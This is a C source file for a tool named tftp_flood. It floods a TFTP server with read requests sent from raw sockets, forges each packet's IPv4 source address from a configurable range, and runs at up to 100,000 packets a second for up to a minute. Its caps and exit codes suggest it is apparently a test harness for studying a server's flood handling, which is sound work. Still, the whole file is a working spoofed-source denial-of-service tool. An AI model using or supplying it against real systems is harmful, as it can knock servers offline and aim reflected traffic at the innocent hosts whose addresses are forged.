/* SPDX-License-Identifier: ISC */
/*
 * tftp_flood SERVER FIRST COUNT RATE SECONDS [SKIP ...]: sends read requests
 * with forged IPv4 source addresses, RATE a second for SECONDS.  The sources
 * are COUNT addresses from FIRST on, without those in SKIP, in turn, each time
 * with another port.  Prints "flooding" when it begins and how many it has
 * sent every second.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define SOURCES_MAX 65536
#define RATE_MAX 100000
#define SECONDS_MAX 60
#define STEP_NS 1000000

static const char rrq[] = "\0\1size30000\0octet\0tsize\0000";

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	char payload[sizeof(rrq)];
} __attribute__((packed));

static uint32_t source[SOURCES_MAX];
static unsigned long nsources;

static void
fail(const char *what)
{
	perror(what);
	exit(1);
}

static uint32_t
address(const char *text)
{
	struct in_addr a;

	if (inet_pton(AF_INET, text, &a) != 1) {
		(void)fprintf(stderr, "tftp_flood: no address: %s\n", text);
		exit(1);
	}
	return a.s_addr;
}

static void
sources_fill(uint32_t first, unsigned long count, char **skip, int nskip)
{
	uint32_t at;
	bool skipped;
	int i;

	for (at = ntohl(first); nsources < count; at++) {
		skipped = false;
		for (i = 0; i < nskip; i++)
			skipped |= address(skip[i]) == htonl(at);
		if (!skipped)
			source[nsources++] = htonl(at);
	}
}

static void
request_send(int sock, const struct sockaddr_in *to, unsigned long number)
{
	struct packet p = {
		.ip = { .ihl = 5,
		    .version = 4,
		    .ttl = 64,
		    .protocol = IPPROTO_UDP,
		    .saddr = source[number % nsources],
		    .daddr = to->sin_addr.s_addr },
		.udp = { .source = htons((uint16_t)(1024 + number % 60000)),
		    .dest = htons(69),
		    .len = htons(sizeof(p.udp) + sizeof(p.payload)) },
	};

	memcpy(p.payload, rrq, sizeof(rrq));
	/* A full queue loses it, as a network would. */
	(void)sendto(
	    sock, &p, sizeof(p), 0, (const struct sockaddr *)to, sizeof(*to));
}

static uint64_t
now_ns(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000 + (uint64_t)ts.tv_nsec;
}

int
main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	const struct timespec step = { 0, STEP_NS };
	unsigned long count, rate, seconds, sent = 0, due, told = 0;
	uint64_t start, passed;
	int sock;

	if (argc < 6)
		return 125;
	to.sin_addr.s_addr = address(argv[1]);
	count = strtoul(argv[3], NULL, 10);
	rate = strtoul(argv[4], NULL, 10);
	seconds = strtoul(argv[5], NULL, 10);
	if (count == 0 || count > SOURCES_MAX || rate == 0 || rate > RATE_MAX ||
	    seconds == 0 || seconds > SECONDS_MAX)
		return 125;
	sources_fill(address(argv[2]), count, argv + 6, argc - 6);
	if ((sock = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1)
		fail("tftp_flood: socket");
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	(void)printf("flooding\n");
	start = now_ns();
	while ((passed = now_ns() - start) < seconds * 1000000000) {
		/* What was missed while this process did not run, follows. */
		for (due = passed * rate / 1000000000; sent < due; sent++)
			request_send(sock, &to, sent);
		if (passed / 1000000000 > told) {
			told = passed / 1000000000;
			(void)printf("sent %lu in %lu s\n", sent, told);
		}
		(void)nanosleep(&step, NULL);
	}
	return 0;
}
